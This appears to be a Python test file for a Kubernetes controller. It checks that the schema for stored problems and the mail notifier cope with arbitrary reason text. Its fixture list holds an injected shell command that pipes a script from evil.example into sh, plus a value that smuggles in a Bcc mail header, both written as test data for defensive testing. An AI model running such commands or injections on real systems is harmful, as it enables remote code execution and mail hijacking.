"""The schema takes each problem that the controller stores, for any text in the statuses that it is from."""

from collections.abc import Mapping
from datetime import timedelta
from pathlib import Path
from typing import Any

import jsonschema  # type: ignore[import-untyped]  # it ships no types
import pytest
import yaml

from controller.mails.problem_tracking import FailureSummary, add_observation, failure_observation
from counterfoil.kube.errors import Rejected
from counterfoil.kube.watch import Raw
from counterfoil.resources import Archive, Import, LastError, Organization, Resource
from counterfoil.resources.base import to_json_dict
from tests.support.builders import NOON, WEBHOOK, an_organization
from tests.support.fakes.kube import InMemoryKubeClient, copied, merge
from tests.support.scenes.notifications import (
    MAILS,
    PUBLIC,
    TIMINGS,
    Scene,
    a_condition,
    a_failed_event,
    an_archive_that_is,
    an_unauthorized_sender,
    in_archive,
)

CRD = yaml.safe_load((Path(__file__).parents[4] / "crds/organizations.yaml").read_text(encoding="utf-8"))
STATUS = CRD["spec"]["versions"][0]["schema"]["openAPIV3Schema"]["properties"]["status"]
PROBLEMS = jsonschema.Draft202012Validator(STATUS["properties"]["problems"])

TEXTS = {
    "a command": "X; curl -s https://evil.example/x | sh #",
    "a path": "X/y/z",
    "a line more": "X\nBcc: eve@evil.example",
    "none": "",
    "longer than a problem takes": "X" * 300,
    "longer than a cause takes with an archive": "X" * 256,
    "as long as a reason may be": "X" * 1024,
}
"""Texts that who may write a status can put in place of a reason."""

UNKNOWN = "failed/Unknown/dms"
MAX_REASON_LENGTH = 240
"""Maximum length of a reason of a problem."""


class CheckingKubeClient(InMemoryKubeClient):
    """Refuses a status with problems that the schema refuses, as the API server does."""

    async def patch_status(
        self, kind: type[Resource], name: str, status: Mapping[str, Any], *, resource_version: str | None
    ) -> Raw:
        """Write a status. Raises ``Rejected``."""
        before = self.objects[kind.PLURAL, name].get("status", {})
        changed = copied(before)
        merge(changed, status)
        stored = before.get("problems", [])
        # It takes what is stored already and stays.
        written = [each for each in changed.get("problems", []) if each not in stored]
        for fault in PROBLEMS.iter_errors(written):
            raise Rejected(422, "Invalid", f"{fault.json_path}: {fault.message[:200]}")
        return await super().patch_status(kind, name, status, resource_version=resource_version)


def a_scene(*resources: Resource, problems: tuple[Any, ...] = (), **options: Any) -> Scene:
    organization = an_organization(notifications=MAILS, oauth=PUBLIC, webhook=WEBHOOK)
    kube = CheckingKubeClient(organization, an_archive_that_is("True"), *resources)
    stored = [each.to_dict() if isinstance(each, Resource) else each for each in problems]
    kube.edit(Organization, "acme", {"status": {"problems": stored}})
    return Scene(kube=kube, **options)


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
async def test_one_event_with_any_reason_ends_no_mails_about_others(text: str) -> None:
    scene = a_scene()
    scene.notifier.event_failed(a_failed_event(1, text))
    scene.notifier.event_failed(a_failed_event(2, "NameOccupied"))
    await scene.run_once(3)
    assert "[acme] An event failed: NameOccupied" in scene.mailer.subjects


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
async def test_an_event_with_a_reason_that_is_none_is_one_mail_without_it(text: str) -> None:
    scene = a_scene()
    scene.notifier.event_failed(a_failed_event(1, text))
    await scene.look_for(timedelta(days=1))
    assert scene.mailer.subjects == ["[acme] An event failed: Unknown"]
    assert set(scene.problems()) == {UNKNOWN}


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
async def test_its_problem_ends_with_it(text: str) -> None:
    scene = a_scene()
    failed = a_failed_event(1, text)
    summary = FailureSummary()
    summary.add(failed, in_archive("dms"))
    scene.notifier.pass_finished(scene.clock.now(), {"acme": summary})
    await scene.run_once(3)
    assert scene.problems()[UNKNOWN].count == 1
    scene.clock.advance(hours=1)
    scene.notifier.pass_finished(scene.clock.now(), {"acme": FailureSummary()})
    await scene.look_for(timedelta(hours=1))
    assert scene.problems() == {}
    assert len(scene.mailer.subjects) == 2


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
async def test_a_notice_that_was_given_up_for_any_reason_ends_no_mails(text: str) -> None:
    scene = a_scene()
    scene.notifier.notice_failed(a_failed_event(1), text, "No answer.")
    await scene.look_for(timedelta(hours=1))
    assert set(scene.problems()) == {"webhook/Unknown"}


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
async def test_conditions_with_any_reason_end_no_mails(text: str) -> None:
    sender = an_unauthorized_sender(reason=text, waiting=1)
    scene = a_scene(sender, an_archive_that_is("False", reason=text))
    raw = {
        "metadata": {"name": "old", "uid": "uid-old", "resourceVersion": "1"},
        "spec": {"organizationRef": {"name": "acme"}, "from": "2019-01-01"},
        "status": {"conditions": [a_condition(each, "True", text, NOON) for each in ("Stalled", "Ready")]},
    }
    scene.cache.imports = {"old": Import.parse(raw)}
    scene.change(Organization, "acme", conditions=[a_condition("Reachable", "False", text, NOON)])
    scene.notifier.event_failed(a_failed_event(2, "NameOccupied"))
    await scene.look_for(TIMINGS.stalled + timedelta(minutes=1))
    subjects = list(scene.mailer.subjects)
    assert "[acme] An event failed: NameOccupied" in subjects
    assert len(set(subjects)) == len(subjects)
    await scene.look_for(TIMINGS.stalled)
    assert scene.mailer.subjects == subjects
    assert scene.kube.objects[Archive.PLURAL, "dms"]["status"]["conditions"][0]["reason"] == text


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
async def test_a_refusal_of_esaw_with_any_reason_ends_no_mails(text: str) -> None:
    scene = a_scene()
    error = LastError(reason=text, message="Refused.", time=NOON)
    scene.notifier.event_failed(a_failed_event(1, "DeadlineExceeded", last_error=error))
    await scene.run_once(3)
    assert set(scene.problems()) == {UNKNOWN}


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
async def test_a_stored_problem_of_an_import_with_any_reason_ends_no_mails(text: str) -> None:
    planted = {"cause": "import/old", "reason": text[:256], "startTime": "2026-07-01T10:00:00Z", "count": 1}
    scene = a_scene(problems=(planted,))
    scene.notifier.event_failed(a_failed_event(2, "NameOccupied"))
    await scene.run_once(3)
    assert "[acme] An event failed: NameOccupied" in scene.mailer.subjects


def test_the_longest_reason_fits_into_a_cause_with_the_longest_name_of_an_archive() -> None:
    reason, archive = "X" * MAX_REASON_LENGTH, "a" * 253
    (problem,) = add_observation((), failure_observation(a_failed_event(1, reason), archive), NOON)
    assert (problem.reason, problem.cause) == (reason, f"failed/{reason}/{archive}")
    assert list(PROBLEMS.iter_errors([to_json_dict(problem)])) == []
